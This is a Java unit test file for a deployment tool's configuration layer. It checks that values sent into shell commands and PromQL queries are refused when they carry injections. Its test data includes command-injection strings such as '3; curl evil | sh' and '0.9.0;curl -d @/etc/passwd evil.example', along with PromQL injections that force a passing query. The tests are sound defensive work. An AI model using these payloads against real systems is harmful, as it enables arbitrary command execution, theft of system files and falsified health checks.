package dev.vigil.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.vigil.Deployment;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Overrides (the command line's deployment options) are the top layer, bound before placeholders are resolved. */
class OverridesTest {

    private static Map<String, String> file() {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("vigil.deployment.service", "checkout");
        p.put("vigil.deployment.version", "1.0.0");
        p.put("vigil.deployment.labels.team", "payments-team");
        p.put("vigil.probes.check.type", "command");
        p.put("vigil.probes.check.command", "curl -fsS http://${vigil.deployment.service}.internal/version/${vigil.deployment.version}");
        p.put("vigil.rollback.command",
                "kubectl set image deployment/${vigil.deployment.service} app=registry/${vigil.deployment.service}:${vigil.deployment.previous-version}");
        return p;
    }

    private static VigilConfig config(Map<String, String> env, Map<String, String> overrides) {
        return VigilConfig.builder().environment(env).serviceLoader(false).overrides(overrides).build();
    }

    @Test
    void overridesReachPlaceholdersInTheRollbackCommandAndProbesAndTheDeployment() {
        Map<String, String> overrides = new LinkedHashMap<>();
        overrides.put("vigil.deployment.service", "payments");
        overrides.put("vigil.deployment.version", "3.1.0");
        overrides.put("vigil.deployment.previous-version", "3.0.0");
        overrides.put("vigil.deployment.environment", "eu-prod");
        overrides.put("vigil.deployment.kind", "hotfix");
        overrides.put("vigil.deployment.fixes", "PAY-12,PAY-13");
        overrides.put("vigil.deployment.labels.region", "eu");
        overrides.put("vigil.probes.check.confirms", "PAY-12,PAY-13");

        BoundConfig bound = config(Map.of("VIGIL_DEPLOYMENT_SERVICE", "from-env"), overrides).load(file());

        assertThat(bound.rollback().orElseThrow().description())
                .isEqualTo("command: kubectl set image deployment/payments app=registry/payments:3.0.0");
        assertThat(bound.describe()).contains("curl -fsS http://payments.internal/version/3.1.0");
        Deployment d = bound.deployment().toDeployment();
        assertThat(d).isEqualTo(new Deployment("payments", "3.1.0", "3.0.0", "eu-prod", Deployment.Kind.HOTFIX,
                java.util.List.of("PAY-12", "PAY-13"), Map.of("team", "payments-team", "region", "eu")));
    }

    @Test
    void withoutOverridesTheFileAndTheEnvironmentDecideAsBefore() {
        BoundConfig bound = config(Map.of("VIGIL_DEPLOYMENT_SERVICE", "from-env", "VIGIL_DEPLOYMENT_PREVIOUS_VERSION", "0.9.0"),
                Map.of()).load(file());

        assertThat(bound.deployment().service()).isEqualTo("from-env");
        assertThat(bound.rollback().orElseThrow().description()).endsWith("registry/from-env:0.9.0");
    }

    @Test
    void aPlaceholderWithoutAValueIsStillAProblemNamingTheKey() {
        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.service", "payments")).load(file()));

        assertThat(e).isNotNull();
        assertThat(e.problems()).anySatisfy(p -> {
            assertThat(p.key()).isEqualTo("vigil.rollback.command");
            assertThat(p.message()).contains("vigil.deployment.previous-version");
        });
    }

    @Test
    void aPlaceholderOfAKeyWithoutAValueSaysToSetTheKeyNotAnEnvironmentVariableNoShellCanSet() {
        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.service", "payments")).load(file()));

        // Before: "set the environment variable vigil.deployment.previous-version", a name with dots and a dash.
        assertThat(e).isNotNull();
        assertThat(e.problems()).filteredOn(p -> p.key().equals("vigil.rollback.command")).singleElement()
                .extracting(ConfigProblem::message).asString()
                .contains("placeholder ${vigil.deployment.previous-version} has no value: set the key"
                        + " vigil.deployment.previous-version (or the environment variable VIGIL_DEPLOYMENT_PREVIOUS_VERSION)")
                .doesNotContain("set the environment variable vigil.");
    }

    @Test
    void spacesOrTabsAroundANameOfTheDeploymentAreAProblemNamingTheKey() {
        // "previous-version=1.9.0<TAB>" reached the rollback command as "registry/checkout:1.9.0\t", and
        // "--service 'checkout '" recorded another service in the history.
        Map<String, String> p = file();
        p.put("vigil.deployment.previous-version", "1.9.0 \t");

        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.service", "checkout ", "vigil.deployment.environment", " staging"))
                        .load(p));

        assertThat(e).isNotNull();
        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.deployment.service",
                "vigil.deployment.previous-version", "vigil.deployment.environment");
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.deployment.previous-version")).singleElement()
                .satisfies(q -> assertThat(q.message()).startsWith("'1.9.0 \\t' has spaces or tabs around it"));
    }

    /**
     * A label is free text (a URL with {@code &}), but one that a placeholder puts into a command is
     * read by the shell: {@code --label ticket='INC-1;echo INJECTED'} ran {@code echo INJECTED} in the
     * rollback through {@code ${vigil.deployment.labels.ticket}}. A problem of the command's key
     * naming the label; the same label outside commands, and a plain one inside, stay fine.
     */
    @Test
    void aLabelThatAPlaceholderPutsIntoACommandMustHoldNothingAShellReads() {
        Map<String, String> p = file();
        p.put("vigil.rollback.command", "rollback.sh ${vigil.deployment.service} --ticket ${vigil.deployment.labels.ticket}");
        // Through another label: the placeholder's value is what the shell reads.
        p.put("vigil.deployment.labels.path", "tickets/${vigil.deployment.labels.ticket}");
        p.put("vigil.probes.check.command", "curl -fsS http://x.internal/${vigil.deployment.labels.path}");
        p.put("vigil.deployment.labels.link", "https://tracker.example/browse?id=1&view=full");

        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.labels.ticket", "INC-1;echo INJECTED")).load(p));

        assertThat(e).isNotNull();
        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.rollback.command",
                "vigil.probes.check.command");
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.rollback.command")).singleElement()
                .satisfies(q -> assertThat(q.message()).isEqualTo("its ${vigil.deployment.labels.ticket} placeholder would put"
                        + " 'INC-1;echo INJECTED' into the command, which /bin/sh -c runs, and ';' would run or redirect what"
                        + " follows it: leave the label out of the command, or give it a value without control characters or"
                        + " ;&|$`<>()'\"\\"));

        BoundConfig fine = config(Map.of(), Map.of("vigil.deployment.labels.ticket", "INC-1")).load(p);
        assertThat(fine.deployment().labels()).containsEntry("link", "https://tracker.example/browse?id=1&view=full");
    }

    /**
     * An environment variable placed into a command's text was not held to the rule of a label:
     * {@code helm rollback app ${REVISION}} with {@code REVISION='3; curl evil | sh'} ran {@code curl}
     * in the rollback. A problem of the command's key naming the variable, its value not shown when
     * the name says secret; {@code "$REVISION"}, which the shell reads itself, and a plain value stay fine.
     */
    @Test
    void anEnvironmentVariableThatAPlaceholderPutsIntoACommandMustHoldNothingAShellReads() {
        Map<String, String> p = file();
        p.put("vigil.rollback.command", "helm rollback app ${REVISION}");
        p.put("vigil.probes.check.command", "curl -fsS -H 'X-Key: ${DEPLOY_TOKEN}' http://x.internal/health");

        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of("REVISION", "3; curl evil | sh", "DEPLOY_TOKEN", "tok$never-shown"), Map.of()).load(p));

        assertThat(e).isNotNull();
        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.rollback.command",
                "vigil.probes.check.command");
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.rollback.command")).singleElement()
                .satisfies(q -> assertThat(q.message()).startsWith("its ${REVISION} placeholder would put '3; curl evil | sh'"
                        + " into the command, which /bin/sh -c runs, and ';' would run or redirect what follows it: let the"
                        + " shell read the variable instead, \"$REVISION\" in double quotes in place of ${REVISION}"));
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.probes.check.command")).singleElement()
                .satisfies(q -> assertThat(q.message()).contains("the value of DEPLOY_TOKEN (not shown"));
        assertThat(e.getMessage()).doesNotContain("never-shown");

        p.put("vigil.rollback.command", "helm rollback app \"$REVISION\"");
        assertThat(config(Map.of("REVISION", "3; curl evil | sh", "DEPLOY_TOKEN", "tok-1"), Map.of()).load(p)).isNotNull();
        p.put("vigil.rollback.command", "helm rollback app ${REVISION}");
        assertThat(config(Map.of("REVISION", "3", "DEPLOY_TOKEN", "tok-1"), Map.of()).load(p)).isNotNull();
    }

    /**
     * A label placed into a PromQL query must hold nothing that ends a quoted value: with
     * {@code team="payments\"} or vector(0) or {x=\""} the errors query of a team would read 0 for
     * any service, a pass, without a word. Versions were refused such characters already.
     */
    @Test
    void aLabelThatAPlaceholderPutsIntoAQueryMustHoldNothingThatEndsAQuotedValue() {
        Map<String, String> p = file();
        p.put("vigil.probes.errors.type", "prometheus");
        p.put("vigil.probes.errors.base-url", "http://prometheus.internal:9090");
        p.put("vigil.probes.errors.query", "sum(rate(http_errors_total{team=\"${vigil.deployment.labels.team}\"}[1m]))");
        p.put("vigil.probes.errors.fail-when", "value > 0.01");
        p.put("vigil.deployment.previous-version", "0.9.0");
        VigilConfig config = VigilConfig.builder().environment(Map.of()).serviceLoader(false)
                .probeFactory(TestFactories.PROMETHEUS)
                .overrides(Map.of("vigil.deployment.labels.team", "payments\"} or vector(0) or {x=\"")).build();

        ConfigurationException e = catchThrowableOfType(ConfigurationException.class, () -> config.load(p));

        assertThat(e).isNotNull();
        assertThat(e.problems()).singleElement().satisfies(q -> {
            assertThat(q.key()).isEqualTo("vigil.probes.errors.query");
            assertThat(q.message()).startsWith("its ${vigil.deployment.labels.team} placeholder would put 'payments\"} or"
                    + " vector(0) or {x=\"' into the PromQL query, where '\"' would end or escape a quoted value");
        });
        BoundConfig fine = VigilConfig.builder().environment(Map.of()).serviceLoader(false).probeFactory(TestFactories.PROMETHEUS)
                .build().load(p);
        assertThat(fine.deployment().labels()).containsEntry("team", "payments-team");
    }

    /**
     * A version placed into a regex matcher must hold no regex operator: with
     * {@code version=~"${vigil.deployment.version}"} and {@code 1.0.0+build} (SemVer build metadata)
     * the matcher selects no series, and {@code or vector(0)} reads the canary's errors as 0, a pass.
     * The same version in an equality matcher, or a plain version in the regex matcher, is fine.
     */
    @Test
    void aVersionPlacedIntoARegexMatcherMustHoldNoRegexOperator() {
        Map<String, String> p = file();
        p.put("vigil.deployment.previous-version", "0.9.0");
        p.put("vigil.probes.errors.type", "prometheus");
        p.put("vigil.probes.errors.base-url", "http://prometheus.internal:9090");
        p.put("vigil.probes.errors.query",
                "sum(rate(http_errors_total{version=~\"${vigil.deployment.version}\"}[1m])) or vector(0)");
        p.put("vigil.probes.errors.fail-when", "value > 0.01");
        java.util.function.Function<Map<String, String>, VigilConfig> config = overrides -> VigilConfig.builder()
                .environment(Map.of()).serviceLoader(false).probeFactory(TestFactories.PROMETHEUS).overrides(overrides).build();

        assertThat(theQueryProblem(config.apply(Map.of("vigil.deployment.version", "1.0.0+build.7")), p))
                .startsWith("its ${vigil.deployment.version} placeholder would put '1.0.0+build.7' into a"
                        + " regex matcher (=~ or !~), where '+' is an operator");
        assertThat(config.apply(Map.of("vigil.deployment.version", "1.0.0")).load(p).deployment().version()).isEqualTo("1.0.0");
        p.put("vigil.probes.errors.query", "sum(rate(http_errors_total{version=\"${vigil.deployment.version}\"}[1m])) or vector(0)");
        assertThat(config.apply(Map.of("vigil.deployment.version", "1.0.0+build.7")).load(p).deployment().version())
                .isEqualTo("1.0.0+build.7");
    }

    /**
     * A deployment's value placed into a query outside any quoted value is PromQL itself: with
     * {@code > ${vigil.deployment.labels.threshold}} and {@code 0 or vector(0)} the query would
     * always answer, a pass. Outside quotes only letters, digits and {@code _ . : -} are accepted: a
     * number, a duration, a name. Inside quotes a label stays free text.
     */
    @Test
    void aValuePlacedIntoAQueryOutsideQuotesMustBeAPlainWord() {
        Map<String, String> p = file();
        p.put("vigil.deployment.previous-version", "0.9.0");
        p.put("vigil.probes.errors.type", "prometheus");
        p.put("vigil.probes.errors.base-url", "http://prometheus.internal:9090");
        p.put("vigil.probes.errors.query", "sum by (${vigil.deployment.labels.by}) (rate(http_errors_total{team=\"${vigil.deployment.labels.team}\"}"
                + "[${vigil.deployment.labels.window}])) > ${vigil.deployment.labels.threshold}");
        p.put("vigil.probes.errors.fail-when", "value > 0");
        java.util.function.Function<Map<String, String>, VigilConfig> config = given -> {
            Map<String, String> overrides = new LinkedHashMap<>(Map.of("vigil.deployment.labels.by", "service",
                    "vigil.deployment.labels.window", "5m", "vigil.deployment.labels.team", "payments team (EU)",
                    "vigil.deployment.labels.threshold", "0.05"));
            overrides.putAll(given);
            return VigilConfig.builder().environment(Map.of()).serviceLoader(false).probeFactory(TestFactories.PROMETHEUS)
                    .overrides(overrides).build();
        };

        assertThat(theQueryProblem(config.apply(Map.of("vigil.deployment.labels.threshold", "0 or vector(0)")), p))
                .isEqualTo("its ${vigil.deployment.labels.threshold} placeholder would put '0 or vector(0)'"
                        + " into the PromQL query outside any quoted value, where a space would let it change what the query"
                        + " computes: give it a value of letters, digits and _ . : - only (a number such as 0.05, a duration such"
                        + " as 5m, a name), or place it inside a quoted label value");
        assertThat(config.apply(Map.of()).load(p).deployment().labels()).containsEntry("team", "payments team (EU)");
        p.put("vigil.probes.errors.query", "sum(rate(http_errors_total[5m])) > ${vigil.deployment.version}");
        assertThat(theQueryProblem(config.apply(Map.of("vigil.deployment.version", "1.0.0+build.7")), p))
                .startsWith("its ${vigil.deployment.version} placeholder would put '1.0.0+build.7' into the PromQL query"
                        + " outside any quoted value, where '+' would");
    }

    /**
     * An environment variable placed into a query is held to the rule of a deployment's label:
     * {@code SERVICE='x"} or vector(1) #'} inside {@code service="${SERVICE}"} would end the quoted
     * value and make the query always answer, and {@code THRESHOLD='0 or vector(0)'} outside quotes
     * would change what it computes. A secret's value is not shown; a plain value passes.
     */
    @Test
    void anEnvironmentVariablePlacedIntoAQueryIsCheckedAsADeploymentValueIs() {
        Map<String, String> p = file();
        p.put("vigil.deployment.previous-version", "0.9.0");
        p.put("vigil.probes.errors.type", "prometheus");
        p.put("vigil.probes.errors.base-url", "http://prometheus.internal:9090");
        p.put("vigil.probes.errors.query", "sum(rate(http_errors_total{service=\"${SERVICE}\"}[5m])) > ${THRESHOLD:0.05}");
        p.put("vigil.probes.errors.fail-when", "value > 0");
        java.util.function.Function<Map<String, String>, VigilConfig> config = env -> VigilConfig.builder()
                .environment(env).serviceLoader(false).probeFactory(TestFactories.PROMETHEUS).build();

        assertThat(theQueryProblem(config.apply(Map.of("SERVICE", "x\"} or vector(1) #")), p))
                .startsWith("its ${SERVICE} placeholder would put 'x\"} or vector(1) #' into the PromQL query, where '\"'"
                        + " would end or escape a quoted value and change what the query selects: leave the environment"
                        + " variable out of the query, or give it a value without control characters or \"'`\\");
        assertThat(theQueryProblem(config.apply(Map.of("SERVICE", "checkout", "THRESHOLD", "0 or vector(0)")), p))
                .startsWith("its ${THRESHOLD} placeholder would put '0 or vector(0)' into the PromQL query outside any"
                        + " quoted value, where a space would let it change what the query computes");
        assertThat(config.apply(Map.of("SERVICE", "checkout", "THRESHOLD", "0.05")).load(p).deployment().service())
                .isEqualTo("checkout");
        assertThat(config.apply(Map.of("SERVICE", "checkout")).load(p).deployment().service()).isEqualTo("checkout");

        p.put("vigil.probes.errors.query", "sum(rate(http_errors_total{team=\"${TEAM_TOKEN}\"}[5m])) > 0");
        String secret = theQueryProblem(config.apply(Map.of("TEAM_TOKEN", "s3cr3t\"} or vector(1) #")), p);
        assertThat(secret).startsWith("its ${TEAM_TOKEN} placeholder would put the value of TEAM_TOKEN (not shown: the name"
                + " says it is a secret) into the PromQL query").doesNotContain("s3cr3t");
    }

    /** The message of the one problem loading {@code p} has, which must be of the errors probe's query. */
    private static String theQueryProblem(VigilConfig config, Map<String, String> p) {
        ConfigurationException e = catchThrowableOfType(ConfigurationException.class, () -> config.load(p));
        assertThat(e).isNotNull();
        assertThat(e.problems()).singleElement().extracting(ConfigProblem::key).isEqualTo("vigil.probes.errors.query");
        return e.problems().get(0).message();
    }

    @Test
    void aNameOfTheDeploymentHoldingWhatAShellReadsIsAProblemNamingTheKey() {
        // --previous-version '1.0.0;echo INJECTED' ran "echo INJECTED" in the rollback command's shell, through
        // its ${vigil.deployment.previous-version}; a newline in --version showed a line "Verdict:  HEALTHY" of its own.
        Map<String, String> p = file();
        p.put("vigil.deployment.previous-version", "0.9.0;curl -d @/etc/passwd evil.example");
        p.put("vigil.deployment.environment", "${STAGE}");

        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of("STAGE", "$(id)"), Map.of("vigil.deployment.version", "2.0.0\nVerdict:  HEALTHY"))
                        .load(p));

        assertThat(e).isNotNull();
        assertThat(e.problems()).extracting(ConfigProblem::key).containsExactlyInAnyOrder("vigil.deployment.version",
                "vigil.deployment.previous-version", "vigil.deployment.environment");
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.deployment.previous-version")).singleElement()
                .satisfies(q -> assertThat(q.message()).startsWith("'0.9.0;curl -d @/etc/passwd evil.example' holds ';',"
                        + " which no name holds and a shell reads: a ${vigil.deployment.previous-version} placeholder in a"
                        + " rollback command or a command probe (run by /bin/sh -c) would run what follows it"));
        assertThat(e.problems()).filteredOn(q -> q.key().equals("vigil.deployment.version")).singleElement()
                .satisfies(q -> assertThat(q.message()).startsWith("'2.0.0\\nVerdict:  HEALTHY' holds a control character (U+000A)"));

        // A space ends the shell's word: kubectl set image ...:${vigil.deployment.previous-version} with
        // '2.4.0 --all' set the image of every deployment of the namespace.
        ConfigurationException space = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.previous-version", "2.4.0 --all")).load(file()));
        assertThat(space).isNotNull();
        assertThat(space.problems()).filteredOn(q -> q.key().equals("vigil.deployment.previous-version")).singleElement()
                .satisfies(q -> assertThat(q.message()).startsWith("'2.4.0 --all' holds a space, which no name holds and a"
                        + " shell reads: a ${vigil.deployment.previous-version} placeholder in a rollback command or a"
                        + " command probe (run by /bin/sh -c) would end the word there and pass what follows it as another"
                        + " argument"));

        // An issue id reaches a command through ${vigil.deployment.fixes} as well.
        ConfigurationException fixes = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.fixes", "INC-1,INC-2;echo FIXED")).load(file()));
        assertThat(fixes).isNotNull();
        assertThat(fixes.problems()).filteredOn(q -> q.key().equals("vigil.deployment.fixes"))
                .anySatisfy(q -> assertThat(q.message()).startsWith("'INC-2;echo FIXED' holds ';'"));

        // What names hold stays fine: a build's metadata, a registry path, a placeholder that gives a plain name.
        Map<String, String> fine = file();
        fine.put("vigil.deployment.previous-version", "1.9.0+build.7_rc-1");
        fine.put("vigil.deployment.environment", "${STAGE}");
        assertThat(config(Map.of("STAGE", "eu-west/prod.2"), Map.of()).load(fine).deployment().environment())
                .isEqualTo("eu-west/prod.2");
    }

    @Test
    void aBadOverrideIsAProblemNamingTheKey() {
        ConfigurationException e = catchThrowableOfType(ConfigurationException.class,
                () -> config(Map.of(), Map.of("vigil.deployment.kind", "emergency", "vigil.deployment.previous-version", "0.9"))
                        .load(file()));

        assertThat(e).isNotNull();
        assertThat(e.problems()).anySatisfy(p -> {
            assertThat(p.key()).isEqualTo("vigil.deployment.kind");
            assertThat(p.message()).contains("release, hotfix");
        });
    }

    @Test
    void anOverrideOutsideThePrefixIsRejectedWhenBuilt() {
        assertThatThrownBy(() -> VigilConfig.builder().overrides(Map.of("deployment.service", "x")).build())
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("deployment.service");
    }
}
